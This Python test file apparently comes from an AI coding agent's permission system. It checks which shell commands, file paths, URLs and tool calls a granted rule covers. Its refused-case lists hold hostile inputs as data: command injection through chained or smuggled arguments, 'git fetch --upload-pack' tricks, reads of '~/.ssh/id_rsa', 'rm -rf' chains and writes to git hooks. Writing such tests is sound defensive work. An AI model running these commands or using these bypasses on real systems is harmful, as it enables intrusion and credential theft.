"""What is allowed for a run reaches exactly as far as its words."""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any

import pytest

from maverick_tui.agent.engines import ToolQuestion
from maverick_tui.agent.permissions.places import Places
from maverick_tui.agent.permissions.standing import user_file
from maverick_tui.events.kinds import Noticed, PermissionAsked
from maverick_tui.runs.commands import AnswerPermission
from maverick_tui.runs.grants import Grants
from maverick_tui.runs.log import EventLog
from maverick_tui.runs.questions import Questions
from tests.support.cases import each


def bash(command: str) -> dict[str, str]:
    return {"command": command}


def offered(grants: Grants, tool: str, arguments: dict[str, Any]) -> list[str]:
    return [grant.text for grant in grants.offers(tool, arguments)]


@each(
    ("command", "prefix", "allowed", "refused"),
    [
        (
            "npm run a",
            "npm run a",
            ["npm run a -- -u"],
            ["npm run b", "npm test", "npm run a; rm x", "npm run $(x)", "npm run a > b"],
        ),
        (
            "git add a.py",
            "git add",
            ["git add b.py", "git add -A"],
            [r"git add $'\'' ; touch PWNED ; : \'", "git commit", "git -c x=y add b", "git add b ~/.ssh/config"],
        ),
        ("git log -p", "git log", ["git log"], ["git log --output=x", "git log --outp=x"]),
        (
            "pytest -q tests",
            "pytest",
            ["pytest", "pytest -x"],
            [
                "pytest; id",
                "pytest > x",
                "pytest-3",
                "py.test",
                "X=1 pytest",
                "pytest -p x",
                "pytest -c x",
                "pytest t*",
            ],
        ),
        ("mypy a.py", "mypy", ["mypy -p a"], ["mypy --python-executable ./evil a.py", "mypy --config-file=x a.py"]),
        ("ruff check", "ruff", ["ruff format a.py"], ["ruff check --config x", "ruff check -o x"]),
        ("rustfmt a.rs", "rustfmt", ["rustfmt b.rs"], ["rustfmt +/evil b.rs"]),
        ("black a.py", "black", ["black -q b.py"], ["black --config x a.py"]),
        ("flake8 a.py", "flake8", ["flake8 b.py"], ["flake8 --append-config=x a.py"]),
        ("isort a.py", "isort", ["isort -q b.py"], ["isort --settings-path x a.py", "isort --sp=x a.py"]),
        ("pyright a.py", "pyright", ["pyright b.py"], ["pyright -p x", "pyright --pythonpath ./evil"]),
        ("pylint a.py", "pylint", ["pylint -E b.py"], ["pylint --init-hook=x a.py", "pylint --rcfile=x a.py"]),
        ("eslint a.js", "eslint", ["eslint --fix b.js"], ["eslint -c x a.js", "eslint --rulesdir x a.js"]),
        ("prettier a.js", "prettier", ["prettier -w b.js"], ["prettier --plugin=x a.js"]),
        ("jest a", "jest", ["jest -t x"], ["jest -c x", "jest --globalSetup x"]),
        ("vitest run", "vitest", ["vitest run a"], ["vitest --config x"]),
        ("tsc --noEmit", "tsc", ["tsc --noEmit -p a"], ["tsc --outDir x", "tsc -b ../x"]),
        ("goimports -l .", "goimports", ["goimports -w a.go"], ["goimports -cpuprofile=x a.go"]),
        (
            "python -m pylint a.py",
            "python -m pylint",
            ["python -m pylint -E b.py"],
            ["python -m pylint --rcfile=x b.py"],
        ),
        (
            "npx eslint a",
            "npx eslint",
            ["npx eslint --fix b"],
            ["npx eslint -c x", "npx eslint --call=x", "npx -p x eslint b", "npx jest a", "npx eslint@1 b"],
        ),
        ("uvx ruff check", "uvx ruff", ["uvx ruff format"], ["uvx ruff check --config x", "uvx --from x ruff check"]),
        ("pnpm exec jest a", "pnpm exec jest", ["pnpm exec jest b"], ["pnpm exec jest -c x", "pnpm exec sh"]),
        (
            "npm exec eslint a",
            "npm exec eslint",
            ["npm exec eslint b"],
            ["npm exec eslint --call=x", "npm exec eslint --package=x", "npm exec eslint --script-shell=x"],
        ),
        ("rye run pytest -q", "rye run pytest", ["rye run pytest"], ["rye run pytest -c x", "rye run sh"]),
        (
            "conda run pytest",
            "conda run pytest",
            ["conda run pytest -x"],
            ["conda run pytest -p x", "conda run -n x sh"],
        ),
        ("touch a", "touch", ["touch -c b"], ["touch -- -o", "touch ./--eval=x"]),
        (
            "uv run pytest -q",
            "uv run pytest",
            ["uv run pytest"],
            ["uv run pytest -c x", "uv run sh", "uv run", "uv run pytest-x"],
        ),
        (
            "python -m pytest -q",
            "python -m pytest",
            ["python -m pytest"],
            ["python -m pytest -o x=y", "python -m pip", "python x.py"],
        ),
        ("mkdir a", "mkdir", ["mkdir a b"], ["rmdir a", "mkdir a && id"]),
        ("cargo test", "cargo test", ["cargo test x"], ["cargo run", "cargo"]),
        (
            "git fetch origin",
            "git fetch",
            ["git fetch", "git fetch --all"],
            [
                "git fetch ./x",
                "git fetch ?-up* .",
                "git fetch --upload-pack='touch x;false' .",
                "git fetch --upl=x origin",
                "git fetch ext::sh",
            ],
        ),
        (
            "git push origin HEAD:x",
            "git push",
            ["git push -u origin y"],
            ["git push --exec=x", "git push ./evil", "git push vendor/evil HEAD", "git push evil.example:x HEAD"],
        ),
        (
            "git rebase main",
            "git rebase",
            ["git rebase -i x"],
            ["git rebase -x id main", "git rebase -ix id m"],
        ),
        ("git bisect good x", "git bisect good", ["git bisect good y"], ["git bisect bad", "git bisect run id"]),
        (
            "git submodule update x",
            "git submodule update",
            ["git submodule update"],
            ["git submodule foreach id", "git submodule -q foreach i"],
        ),
        (
            "git remote show origin",
            "git remote show",
            ["git remote show x"],
            ["git remote add x y", "git remote set-url origin x", "git remote remove x", "git remote"],
        ),
        ("git stash list", "git stash list", ["git stash list -p"], ["git stash drop", "git stash", "git stash clear"]),
        ("git stash push -m x", "git stash push", ["git stash push a.py"], ["git stash pop", "git stash"]),
        ("git worktree add x", "git worktree add", ["git worktree add y"], ["git worktree remove x", "git worktree"]),
        ("gh repo view x", "gh repo view", ["gh repo view y"], ["gh repo delete x", "gh repo", "gh pr view x"]),
        ("gh run list -L 5", "gh run list", ["gh run list"], ["gh run cancel x", "gh run delete x"]),
        ("gh cs list", "gh cs list", ["gh cs list -L 5"], ["gh cs delete x", "gh codespace delete x", "gh cs"]),
        ("gh run watch 1", "gh run watch", ["gh run watch 2"], ["gh run rerun 1"]),
        ("npm author ls x", "npm author ls", ["npm author ls y"], ["npm author add x y"]),
        ("cargo nextest run", "cargo nextest run", ["cargo nextest run -j 4"], ["cargo nextest archive"]),
        ("docker compose config", "docker compose config", [], ["docker compose down"]),
        ("yarn plugin list", "yarn plugin list", [], ["yarn plugin import x"]),
        ("gh pr create -t x", "gh pr create", ["gh pr create -t y"], ["gh pr merge 1"]),
        (
            "kubectl get pods",
            "kubectl get",
            ["kubectl get nodes"],
            ["kubectl delete pods x", "kubectl -n get delete x"],
        ),
        ("kubectl rollout status x", "kubectl rollout status", [], ["kubectl rollout undo x", "kubectl rollout"]),
        ("terraform workspace list", "terraform workspace list", [], ["terraform workspace delete x"]),
        ("terraform state show x", "terraform state show", ["terraform state show y"], ["terraform state rm x"]),
        ("docker image ls", "docker image ls", ["docker image ls -a"], ["docker image rm x", "docker image"]),
        (
            "docker buildx imagetools inspect x",
            "docker buildx imagetools inspect",
            [],
            ["docker buildx imagetools create x"],
        ),
        ("uv pip list", "uv pip list", ["uv pip list -v"], ["uv pip install x", "uv pip"]),
        ("go mod tidy", "go mod tidy", ["go mod tidy -v"], ["go mod edit -replace=a=b", "go mod download x"]),
        ("cargo xtask ci", "cargo xtask ci", ["cargo xtask ci -v"], ["cargo xtask release"]),
        ("npm rum a", "npm rum a", [], ["npm rum b", "npm run b"]),
        ("pnpm run test:unit", "pnpm run test:unit", [], ["pnpm run deploy", "pnpm exec sh", "pnpm run"]),
        (
            "uv run git stash list",
            "uv run git stash list",
            [],
            ["uv run git stash drop", "uv run git stash", "uv run git push"],
        ),
        (
            "uv run make lint",
            "uv run make lint",
            ["uv run make lint -k"],
            ["uv run make lint SHELL=x", "uv run make lint deploy"],
        ),
        (
            "uv run git fetch origin",
            "uv run git fetch",
            [],
            ["uv run git fetch --upload-pack=x", "uv run git fetch ./x"],
        ),
        (
            "make test -j4",
            "make test",
            ["make test -k"],
            ["make test --eval=x", "make test --ev=x", "make test A=b", "make test deploy", "make test -k deploy"],
        ),
        ("make test -j 4", "make test", ["make test"], ["make test -j 4 deploy", "make deploy"]),
        ("task lint", "task lint", ["task lint -v"], ["task lint deploy", "task lint -v deploy"]),
        (
            "gradle test --tests a.B",
            "gradle test",
            ["gradle test --tests=a", "gradle test --info", "gradle test -x lint"],
            [
                "gradle test publish",
                "gradle test --info publish",
                "gradle test --tests a publish",
                "gradle test --tests -x publish",
            ],
        ),
        ("mvn test -pl a", "mvn test", ["mvn test -pl b -am"], ["mvn test deploy", "mvn test -am deploy"]),
        ("go test ./...", "go test", ["go test -run x"], ["go test -exec id ./...", "go test -toolexec=id x"]),
        (
            "npm run b",
            "npm run b",
            ["npm run b -- --fix"],
            ["npm run b --script-shell=id", "npm run b --script-sh i", "npm run b -- --shell x"],
        ),
        (
            "docker compose ps",
            "docker compose ps",
            ["docker compose ps -a"],
            ["docker compose exec a sh", "docker compose down", "docker compose up -d", "docker compose"],
        ),
        (
            "cargo test x",
            "cargo test",
            ["cargo test -- --nocapture"],
            ["cargo test --config x", "cargo test --conf=x"],
        ),
        (
            "cargo clean",
            "cargo clean",
            ["cargo clean -p x", "cargo clean --release"],
            ["cargo clean --target-dir src", "cargo clean --target-dir=x", "cargo clean --config x"],
        ),
        ("uv cache clean", "uv cache clean", ["uv cache clean ruff"], ["uv cache clean --cache-dir src"]),
        ("pip cache purge", "pip cache purge", ["pip cache purge -q"], ["pip cache purge --cache-dir src"]),
        ("pip cache remove x", "pip cache remove", ["pip cache remove y"], ["pip cache remove x --cache-dir=src"]),
        ("uv venv", "uv venv", ["uv venv .venv"], ["uv venv --clear src", "uv venv -c src", "uv venv src -c"]),
        ("npm audit fix", "npm audit fix", ["npm audit fix --json"], ["npm audit", "npm audit signatures"]),
        (
            'git commit -m "fix it"',
            "git commit",
            ['git commit -am "and that"', "git commit -m \"$(cat <<'EOF'\nlong\nEOF\n)\""],
            ["git commit -m x; id", 'git commit -m "$(id)"'],
        ),
        (
            "cargo build 2>&1 | tail -5",
            "cargo build",
            ["cargo build", "cargo build -q | head"],
            ["cargo build | sh", "cd / && cargo build", "cargo build | tee x"],
        ),
    ],
)
def test_what_begins_alike(command: str, prefix: str, allowed: list[str], refused: list[str]) -> None:
    grants = Grants(Path.cwd())
    _, alike, _ = grants.offers("Bash", bash(command))
    assert alike.text == f"Bash: {prefix} …"
    assert grants.rule_for("Bash", bash(command)) == "", "an offer is not a grant"
    grants.give(alike)
    assert [grants.rule_for("Bash", bash(other)) for other in [command, *allowed]] == [alike.text] * (len(allowed) + 1)
    assert [grants.rule_for("Bash", bash(other)) for other in refused] == [""] * len(refused)
    assert grants.rule_for("PowerShell", bash(command)) == ""
    assert grants.rule_for("Bash", bash(f"cd {Path.cwd()} && {command}")) == alike.text
    assert grants.rule_for("Bash", bash(f"cd / && {command}")) == ""


@pytest.mark.explore
@each(
    "command",
    [
        "git log --output=x", "uv run sh -c x", "uv run python x.py", "uv run --with x y", "rm a b", "a && b",
        "sudo ls x", "npm -g run a", "python x.py", "python -c 1", "bash x", "xargs id", "./x a", "npm exec x",
        "docker run a b", "git bisect run id x", "go env -w CC=x", "csh x", "busybox sh", "source x", ". x", "setsid x",
        "flock a b", "gdb x", "Rscript x", "cp a b", "ln a b", "python -m pdb x", "python -m runpy x",
        "sed -i s/a/b/ x", "find . -delete", "pytest > x", "pytest $X", "'a b' c", "env pytest", "git", "go run x",
        "pylint --init-hook=x a.py", "rubocop a.rb",
        "python -m unittest a", "python -m eslint a", "ls a*", "git add a*",
        "npx cowsay a", "npx -p x eslint", "npx -c x", "bundle exec rspec a", "pnpm exec sh", "npm exec", "npx",
        "yarn workspace a test", "yarn workspaces run lint",
        "poetry run sh", "aws s3 ls x", "gcloud projects list", "az vm list", "python -m http.server", "gh api user",
        "git remote -v", "git remote add x y", "git stash -q", "gh repo -R x view", "docker compose -f x ps", "npm run",
        "docker compose exec a sh", "composer global exec x", "yarn global add x", "uv run git remote add x y",
        "brew bundle exec x", "brew bundle sh", "brew ruby -e x", "brew sh", "podman unshare x", "podman machine ssh x",
        "cargo watch -s x", "pnpm recursive exec x", "pnpm multi exec x", "pnpm m exec x", "kubectl debug x",
        "gh codespace ssh x", "gh cs ssh x", "gh ext exec x", "gh cs", "npm c set a=b", "pnpm c set a=b", "npm innit x",
        "bun run sh x", "bun run python3.12 x", "yarn run node x", "pnpm bash x", "yarn tsx x", "bun pm pkg set a=b",
        "yarn plugin import x", "dotnet watch x", "dotnet fsi x", "gradle wrapper x", "poetry shell x", "git shell x",
        "npm exe prettier .", "npm conf get x", "npm pk get name", "npm ini", "npm crea vite", "npm runScript a",
        "npm publis x", "npm tru list", "npm trust", "composer exe x", "composer conf x", "composer GLOBAL x",
        "git instaweb x", "docker buildx debug x", "npm author", "cargo rustdoc x", "uv run podman unshare x",
        "npm audit", "npm audit --json", "npm version", "npm verison", "pnpm audit", "pnpm licenses", "yarn version",
        "git rerere", "git refs", "git lfs migrate", "cargo vendor v", "cargo miri", "cargo audit", "docker mcp",
        "cargo sqlx migrate", "gh repo deploy-key", "gh codespace ports", "poetry version", "bun pm cache",
        "dotnet nuget config", "cargo clean --target-dir x", "conda self",
    ],
)  # fmt: skip
def test_only_the_very_command_where_what_begins_alike_could_be_anything(command: str) -> None:
    grants = Grants(Path.cwd())
    exact, everything = grants.offers("Bash", bash(command))
    assert (exact.text, everything.text) == (f"Bash: {command}", "every Bash command")
    grants.give(exact)
    assert grants.rule_for("Bash", bash(command)) == exact.text
    for other in (f"{command} ", f"{command} x", f"{command}\nid"):
        assert grants.rule_for("Bash", bash(other)) == ""


@pytest.mark.parametrize("command", ["tar xf a", "git am x", "unzip x", "sort --files0-from=x"])
def test_nothing_is_offered_for_what_is_asked_about_each_time(command: str) -> None:
    assert [*Grants(Path.cwd()).offers("Bash", bash(command))] == []


def test_every_command_is_still_asked_about_where_it_always_is() -> None:
    grants = Grants(Path.cwd())
    grants.give(grants.offers("Bash", bash("a && b"))[-1])
    assert grants.rule_for("Bash", bash("rm -rf x; id > y")) == "every Bash command"
    for command in ("cp x .git/config", "cat ~/.ssh/id_rsa", "git config core.pager x"):
        assert grants.rule_for("Bash", bash(command)) == ""
    assert grants.rule_for("Bash", {**bash("id"), "dangerouslyDisableSandbox": True}) == ""


def test_what_standing_rules_ask_about_is_allowed_only_by_what_was_granted_at_a_question_of_all_of_them() -> None:
    grants = Grants(Path.cwd())
    push, remove = frozenset({"ask Bash(git push:*)"}), frozenset({"ask Bash(rm:*)"})
    *_, everything = grants.offers("Bash", bash("mkdir a"))
    grants.give(everything)
    assert grants.rule_for("Bash", bash("git push"), push) == ""
    grants.give(everything, push)
    assert grants.rule_for("Bash", bash("git push"), push) == everything.text
    assert grants.rule_for("Bash", bash("rm x"), remove) == ""
    assert grants.rule_for("Bash", bash("git push; rm x"), push | remove) == ""
    grants.give(everything, push | remove)
    assert grants.rule_for("Bash", bash("rm x"), remove) == everything.text


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("Write", {"file_path": ".git/hooks/pre-commit"}),
        ("Write", {"file_path": ".maverick/agents/x.md"}),
        ("Read", {"file_path": "~/.ssh/id_rsa"}),
        ("Bash", {"command": "cp x .git/config"}),
        ("Bash", {"command": "git config core.pager x"}),
    ],
)
def test_nothing_is_offered_for_what_asks_each_time(tool: str, arguments: dict[str, str]) -> None:
    assert Grants(Path.cwd()).offers(tool, arguments) == []


def test_files() -> None:
    Path("link").symlink_to("/etc")
    grants = Grants(Path.cwd())
    file, folder = grants.offers("Edit", {"file_path": "src/a.py"})
    assert (file.text, folder.text) == ("Edit of src/a.py", "Edit in this folder")
    grants.give(file)
    assert grants.rule_for("Edit", {"file_path": str(Path("src/../src/a.py").absolute())}) == file.text
    assert not grants.rule_for("Edit", {"file_path": "src/b.py"})
    grants.give(folder)
    assert grants.rule_for("Edit", {"file_path": str(Path("b.py").absolute())})
    for path in ("../b.py", "/etc/hosts", "link/hosts", ".git/config", "src/.env", ""):
        assert not grants.rule_for("Edit", {"file_path": path}), path
    assert not grants.rule_for("Write", {"file_path": "src/a.py"})
    assert offered(grants, "Read", {"file_path": "/etc/hosts"}) == ["Read of /etc/hosts"]
    assert offered(grants, "Read", {"file_path": "src/.env.example"}) == ["Read of src/.env.example"]


def test_a_grant_for_a_foreign_tool_knows_nothing_of_its_arguments() -> None:
    grants, tool = Grants(Path.cwd()), "mcp__sh__run"
    exact, every = grants.offers(tool, {"path": "src", "command": "ls", "force": False})
    assert (exact.text, every.text) == (f"{tool}, with these arguments", f"every use of {tool}")
    grants.give(exact)
    assert grants.rule_for(tool, {"force": False, "command": "ls", "path": "src"}) == exact.text
    for more in ({"command": "touch x;/../ls"}, {"force": True}, {"force": 0}, {"path": "./src"}, {"to": "x"}):
        assert not grants.rule_for(tool, {"path": "src", "command": "ls", "force": False, **more}), more
    grants.give(every)
    assert not grants.rule_for(tool, {"path": ".git/hooks/pre-commit"})


def test_others() -> None:
    grants = Grants(Path.cwd())
    page, host = grants.offers("WebFetch", {"url": "https://a.example/x"})
    assert (page.text, host.text) == ("WebFetch of https://a.example/x", "WebFetch from a.example")
    grants.give(page)
    assert not grants.rule_for("WebFetch", {"url": "https://a.example/y"})
    grants.give(host)
    assert grants.rule_for("WebFetch", {"url": "http://a.example/y"})
    assert not grants.rule_for("WebFetch", {"url": "https://b.example/x"})
    (odd,) = grants.offers("WebFetch", {"url": "https://evil.example\\@a.example/"})
    grants.give(odd)
    assert not grants.rule_for("WebFetch", {"url": "https://evil.example\\@b.example/"})
    exact, every = grants.offers("mcp__box__open", {"what": "lid"})
    assert (exact.text, every.text) == ("mcp__box__open, with these arguments", "every use of mcp__box__open")
    grants.give(exact)
    assert grants.rule_for("mcp__box__open", {"what": "lid"})
    assert not grants.rule_for("mcp__box__open", {"what": "door"})
    grants.give(every)
    assert grants.rule_for("mcp__box__open", {"what": "door"})
    assert offered(grants, "AskUserQuestion", {}) == []
    assert offered(grants, "ExitPlanMode", {}) == []


def test_a_command_with_anything_besides_is_another_thing() -> None:
    grants = Grants(Path.cwd())
    grants.give(grants.offers("Bash", bash("npm run a"))[0])
    assert grants.rule_for("Bash", {**bash("npm run a"), "description": "Build it", "timeout": 5})
    for more in ({"run_in_background": True}, {"dangerouslyDisableSandbox": True}, {"something": "new"}):
        assert not grants.rule_for("Bash", {**bash("npm run a"), **more}), more
        assert offered(grants, "Bash", {**bash("npm run a"), **more}) == [], (
            "it would not cover the call that it is for"
        )


def test_a_rule_is_offered_only_where_all_of_it_is_seen(tmp_path: Path) -> None:
    grants = Grants(tmp_path)
    assert [grant.rule for grant in grants.offers("Bash", bash("make a"))] == ["Bash(make a)", "Bash(make a:*)", "Bash"]
    assert [grant.rule for grant in grants.offers("Bash", bash("ls\nrm -rf build"))] == ["", "Bash"]
    assert grants.offers("Bash", bash("echo \u202e x"))[0].rule == ""


async def test_no_rule_with_a_secret_is_offered_or_written() -> None:
    secret = f"mytool push --token ghp_{'a1B2' * 9}"
    log = EventLog()
    questions = Questions(log)
    asking = asyncio.create_task(questions.ask(ToolQuestion("Bash", bash(secret), "c1")))
    while not len(log):
        await asyncio.sleep(0)
    (asked,) = log.since(0)
    assert isinstance(asked, PermissionAsked)
    assert asked.rules == (), "not all of Bash either"
    questions.answer(AnswerPermission(asked.request, "once", rule=f"Bash({secret})"))
    assert (await asking).is_granted
    told = log.since(0)[-1]
    assert isinstance(told, Noticed)
    assert "There is a secret in this rule" in told.text
    assert not user_file().exists()


def test_only_of_what_a_write_replaces_it_is_asked_whether_it_may_be_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It takes a while, and no other call is shown what it replaces."""
    asked: list[str] = []
    look = Places.why_not_to_read

    def noted(places: Places, path: str, here: Path | None = None) -> str:
        asked.append(path)
        return look(places, path, here)

    monkeypatch.setattr(Places, "why_not_to_read", noted)
    (tmp_path / "file").write_text("before\n")
    calls = {
        "mcp__x__y": {"file_path": "file"},
        "WebFetch": {"url": "https://example.org"},
        "Write": {"file_path": "file", "content": "after\n"},
    }
    told = {}
    for tool, arguments in calls.items():
        asked.clear()
        told[tool] = (Grants(tmp_path).weighed(ToolQuestion(tool, arguments, "1")).replaced.words != "", [*asked])
    assert told == {"mcp__x__y": (False, []), "WebFetch": (False, []), "Write": (True, ["file"])}
